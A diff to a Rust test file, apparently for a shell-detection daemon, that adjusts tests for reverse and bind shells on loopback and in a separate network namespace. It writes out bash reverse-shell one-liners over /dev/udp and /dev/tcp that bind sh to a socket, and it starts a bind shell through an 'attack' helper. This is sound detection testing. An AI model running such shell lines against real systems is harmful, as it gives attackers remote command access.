@@ -23,7 +23,7 @@ fn shells_are_found_with(lookup: &str) {
         let port = listener.port().to_string();
         Victim::start(program("attack"), &[way, host, &port, "012", "/bin/sh"])
     };
-    let shell = Expected { args: &["/bin/sh"], ..Expected::default() };
+    let shell = Expected { args: &["/bin/sh"], patient: true, ..Expected::default() };
 
     let attacker = Listener::tcp();
     let victim = attack(&attacker, "dup", "127.0.0.1");
@@ -41,26 +41,26 @@ fn shells_are_found_with(lookup: &str) {
     let port = socket.local_addr().unwrap().port();
     let line = format!("exec 5<>/dev/udp/127.0.0.1/{port}; echo hello >&5; exec sh <&5 >&5 2>&5");
     let victim = Victim::start("/bin/bash", &["-c", &line]);
-    let udp = Expected { protocol: "UDP", wire: Some("UDP"), ..Expected::default() };
+    let udp = Expected { protocol: "UDP", wire: Some("UDP"), patient: true, ..Expected::default() };
     prove_session(&daemon, Session::first_datagram(socket), victim, &udp);
 
-    // In a network namespace of its own, where its loopback is another than ours: the shell listens, and the attacker
-    // is started in that namespace too.
-    let mut victim = Victim::start(
-        "unshare",
-        &[
-            "--net",
-            "bash",
-            "-c",
-            "ip link set lo up; \"$0\" serve 127.0.0.1 40405 1 /bin/sh -s & \
-             until exec 5<>/dev/tcp/127.0.0.1/40405; do :; done 2>/dev/null; echo 'cat /dev/null; exit' >&5; cat <&5; wait",
-            program("attack").to_str().unwrap(),
-        ],
+    // In a network namespace of its own, whose loopback is another than ours. It listens on a port of the range that
+    // the kernel gives out: that somebody listens has to be looked up there, while the shell waits.
+    let directory = tempfile::tempdir().unwrap();
+    let (flag, own) = (directory.path().join("seen"), port.to_string());
+    let line = format!(
+        "ip link set lo up; {} serve 127.0.0.1 {own} 1 /bin/sh -s & \
+         until exec 5<>/dev/tcp/127.0.0.1/{own}; do :; done 2>/dev/null; \
+         until [ -e {} ]; do sleep 0.05; done; echo exit >&5; wait",
+        program("attack").display(),
+        flag.display()
     );
-    assert!(victim.wait().success());
+    let mut victim = Victim::start("unshare", &["--net", "bash", "-c", &line]);
     let found = daemon.wait_for("the bind shell in its own network namespace", |record| {
-        record.own_port() == Some(40405) && record.row() == 1
+        record.own_port() == Some(port) && record.row() == 1
     });
+    std::fs::write(&flag, "").unwrap();
+    assert!(victim.wait().success());
     assert!(found.ran(&["/bin/sh", "-s"]), "{}", found.brief());
     assert_eq!(found.text("Tether_Direction"), "inbound", "{}", found.brief());
     assert_eq!(found.text("Peer_Scope"), "loopback", "{}", found.brief());
